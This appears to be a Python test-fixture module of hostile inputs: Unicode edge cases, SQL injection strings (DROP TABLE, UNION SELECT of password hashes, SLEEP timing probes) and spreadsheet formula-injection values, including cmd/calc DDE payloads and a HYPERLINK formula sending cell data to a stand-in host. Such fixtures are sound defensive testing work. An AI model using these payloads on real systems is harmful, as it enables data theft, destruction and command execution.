"""What is put where a text is wanted: foreign languages of people, and of machines."""

from __future__ import annotations

# Short enough for the shortest text there is (a unit of measure), and with nothing around them that a form would strip.
UNICODE = {
    "emoji": "🎁🧑‍🚀",
    "right to left": "שלום مرحبا",
    "right-to-left override": "abc\u202edef",
    "combining": "e\u0301a\u0308\u0323",
    "precomposed": "éạ̈",
    "zero width": "a\u200bb\u200cc\ufeffd",
    "beyond the basic plane": "𝒜𐍈𠀀",
    "fullwidth": "\uff1c\uff21\uff22\uff23\uff1e",
    "noncharacter": "a\ufffeb\uffffc",
    "private use": "a\ue000b",
    "isolated": "a\u2066b\u2069c",
    "line separators": "a\u2028b\u2029c",
    "quotes": "'\"`\\%_",
    "markup": "<b onclick=1>&amp;</b>",
    "dotless i": "I\u0131\u0130i",
    "nul": "a\x00b",
    "control": "a\x1b[31mb",
    "newline": "a\r\nb",
    "delete": "a\x7fb\x85c",
    "high surrogate": "a\ud83cb",
    "low surrogate": "a\udf81b",
    "surrogates the wrong way round": "a\udf81\ud83cb",
}
SQL = (
    "' OR '1'='1",
    "' OR 1=1 -- ",
    "'; DROP TABLE products; -- ",
    '" OR ""="',
    "\\' OR 1=1 -- ",
    "1) OR (1=1",
    "' UNION SELECT username, password_hash FROM users -- ",
    "%' AND SLEEP(3) AND '%'='",
    "' AND SLEEP(3) -- ",
    "1 AND SLEEP(3)",
    "(SELECT SLEEP(3))",
    "%bf%27 OR 1=1 -- ",
    "{${@print(1)}}{{7*7}}",
    "/*!50000 OR 1=1 */",
)
SLEEPS_SECONDS = 3.0
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"see")',
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "'=1+1",
    '"=1+1',
    "a;=1+1",
    "a,=1+1",
    'a",=1+1,"',
    "a\n=1+1",
)
NUMBERS = ("-5", "-5.25", "+5", "0", "12.5", -5, 5, -0.5)
